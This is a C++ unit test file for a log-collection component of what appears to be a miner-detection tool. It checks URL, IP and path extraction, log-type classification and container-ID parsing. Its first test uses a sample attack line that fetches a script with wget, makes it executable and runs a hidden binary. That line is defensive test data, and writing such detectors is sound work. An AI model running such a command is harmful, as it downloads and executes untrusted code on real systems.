#include "checks/log_collect.h"

#include <gtest/gtest.h>

namespace deminer {
namespace {

TEST(LogCollectTest, CapturesUrlsAddressesAndTempPaths) {
  const std::string line =
      "wget http://10.9.8.7:8080/x.sh -O /tmp/x.sh; chmod +x /tmp/x.sh && /var/tmp/.k/run "
      "from 192.168.1.20 (not 1.2.3.4.5 or 999.1.1.1)";
  EXPECT_EQ(CaptureFromLine(line, {"url"}), std::vector<std::string>{"http://10.9.8.7:8080/x.sh"});
  EXPECT_EQ(CaptureFromLine(line, {"ip"}), (std::vector<std::string>{"10.9.8.7", "192.168.1.20"}));
  EXPECT_EQ(CaptureFromLine(line, {"path"}),
            (std::vector<std::string>{"/tmp/x.sh", "/var/tmp/.k/run"}));
  EXPECT_TRUE(CaptureFromLine(line, {}).empty());
  EXPECT_TRUE(CaptureFromLine("", {"url", "ip", "path"}).empty());
}

TEST(LogCollectTest, KindsFromPaths) {
  EXPECT_EQ(LogKindOfPath("/var/log/postgresql/postgresql-15-main.log"), LogKind::kPostgres);
  EXPECT_EQ(LogKindOfPath("/data/redis-server.log"), LogKind::kRedis);
  EXPECT_EQ(LogKindOfPath("/var/log/nginx/access.log.2.gz"), LogKind::kWeb);
  EXPECT_EQ(LogKindOfPath("/var/log/auth.log.1"), LogKind::kAuth);
  EXPECT_EQ(LogKindOfPath("/x/abc-json.log"), LogKind::kContainer);
  EXPECT_EQ(LogKindOfPath("/x/userdata/ctr.log"), LogKind::kContainer);
  EXPECT_EQ(LogKindOfPath("/srv/app.log"), LogKind::kFile);
}

TEST(LogCollectTest, ContainerIdsFromPaths) {
  const std::string id(64, 'a');
  EXPECT_EQ(ContainerIdOfLogPath("/var/lib/docker/containers/" + id + "/" + id + "-json.log"), id);
  EXPECT_EQ(ContainerIdOfLogPath("/var/lib/containers/storage/overlay-containers/" + id +
                                 "/userdata/ctr.log"),
            id);
  EXPECT_EQ(ContainerIdOfLogPath("/srv/docker/containers/notanid/x.log"), "");
  EXPECT_EQ(ContainerIdOfLogPath("/var/log/app.log"), "");
}

}  // namespace
}  // namespace deminer
